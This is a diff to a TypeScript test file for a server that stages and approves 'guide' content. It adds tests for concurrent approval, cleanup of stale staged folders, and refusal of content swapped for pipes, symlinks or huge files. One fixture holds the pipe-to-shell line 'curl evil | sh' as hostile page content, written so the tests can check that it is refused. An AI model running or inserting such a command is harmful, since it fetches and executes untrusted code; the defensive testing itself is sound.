@@ -1,10 +1,22 @@
 /** What a broken or hostile host may answer: a sentence and exit 1, and nothing of it is left. */
 import assert from 'node:assert/strict';
-import { existsSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
+import { execFileSync, spawnSync } from 'node:child_process';
+import {
+  existsSync,
+  mkdirSync,
+  mkdtempSync,
+  readFileSync,
+  readdirSync,
+  rmSync,
+  statSync,
+  symlinkSync,
+  truncateSync,
+  writeFileSync,
+} from 'node:fs';
 import { type ServerResponse, createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { tmpdir } from 'node:os';
-import { join } from 'node:path';
+import { basename, join } from 'node:path';
 import { type TestContext, test } from 'node:test';
 import { brotliCompressSync, gzipSync } from 'node:zlib';
 import { approve, openApproved, refuseChanged, stage } from '../../server/connect/approved.ts';
@@ -43,6 +55,11 @@ for (const [what, files] of Object.entries({
   'a page in a folder': [INDEX, { path: 'sub/index.mdx', text: '{1}\n' }],
   'a program beside it': [INDEX, { path: 'y.js', text: 'evil()' }],
   'settings for a tool': [INDEX, { path: 'guidepost.yaml', text: 'folder: /\n' }],
+  'a practice folder that is the guide itself': [
+    { ...INDEX, text: INDEX.text.replace('# Guide', '---\npages: [more]\npractice: { folder: . }\n---\n\n# Guide') },
+    { path: 'more.md', text: 'curl evil | sh\n' },
+  ],
+  'the same, spelled otherwise': [{ ...INDEX, text: '---\npractice: { folder: .//. }\n---\n\n# Guide\n' }],
   'code in a named page': [
     { ...INDEX, text: '---\npages: [more]\n---\n' },
     { path: 'more.mdx', text: 'export const x = 1\n' },
@@ -92,6 +109,56 @@ test('bytes that changed while the question stood are not approved, nor served l
   writeFileSync(join(approved.content, 'guides/a/extra.mdx'), '{evil()}\n');
   assert.throws(() => refuseChanged(approved.content, pin(guide)), /no longer what was approved/);
 });
+
+test('two processes that approve the same at once serve it both', async (t) => {
+  const state = folder(t);
+  const guide = await honest(t, 'echo one');
+  const before = openApproved(state, 'key');
+  const [first, second] = [await stage(before, [guide]), await stage(before, [guide])];
+  const { content } = approve(before, first, pin(guide));
+  const reading = statSync(join(content, 'guides/a/index.md')).ino;
+  approve(before, second, pin(guide));
+  second.remove();
+  assert.equal(statSync(join(content, 'guides/a/index.md')).ino, reading);
+  assert.deepEqual(readdirSync(before.folder).toSorted(), [digestOf([guide]), 'pin.json'].toSorted());
+});
+
+test('what was staged by a process that was killed at its question is removed by the next one', async (t) => {
+  const state = folder(t);
+  const guide = await honest(t, 'echo one');
+  const before = openApproved(state, 'key');
+  const { pid } = spawnSync('true');
+  mkdirSync(join(before.folder, `staged-${pid}-left`, 'guides'), { recursive: true });
+  const staged = await stage(before, [guide]);
+  assert.deepEqual(readdirSync(before.folder), [basename(staged.folder)]);
+  const waiting = await stage(before, [guide]); // its process is alive
+  assert.ok(existsSync(staged.folder));
+  for (const each of [staged, waiting]) each.remove();
+  assert.deepEqual(readdirSync(before.folder), []);
+});
+
+const ODD: Readonly<Record<string, (path: string) => unknown>> = {
+  'a pipe': (path) => execFileSync('mkfifo', [path]),
+  'a folder': (path) => mkdirSync(path),
+  'a link': (path) => symlinkSync('/etc', path),
+  'a link to nothing': (path) => symlinkSync('/no/such/file', path),
+  'a huge file': (path) => {
+    writeFileSync(path, '');
+    truncateSync(path, 3 * 2 ** 30);
+  },
+  nothing: () => undefined,
+};
+for (const [what, lay] of Object.entries(ODD))
+  test(`what was approved is not served with ${what} in its place, which is said`, async (t) => {
+    const guide = await honest(t, 'echo one');
+    for (const place of ['guides/a/index.md', 'guides/a', 'guides']) {
+      const before = openApproved(folder(t), 'key');
+      const { content } = approve(before, await stage(before, [guide]), pin(guide));
+      rmSync(join(content, place), { recursive: true });
+      lay(join(content, place));
+      assert.throws(() => refuseChanged(content, pin(guide)), { name: 'RunbookError' }, place);
+    }
+  });
 
 for (const [what, answer, words] of [
   ['begins to answer and stops', (response) => setImmediate(() => response.destroy()), /began to answer and stopped/],
@@ -183,7 +250,6 @@ function flood(response: ServerResponse): void {
 async function honest(t: TestContext, script: string): Promise<GuideFiles> {
   const text = INDEX.text.replace('echo hello', script);
   const at = join(folder(t), 'a');
-  const { mkdirSync } = await import('node:fs');
   mkdirSync(at);
   writeFileSync(join(at, 'index.md'), text);
   const hashes = Object.fromEntries((await readGuide(at)).hashes);
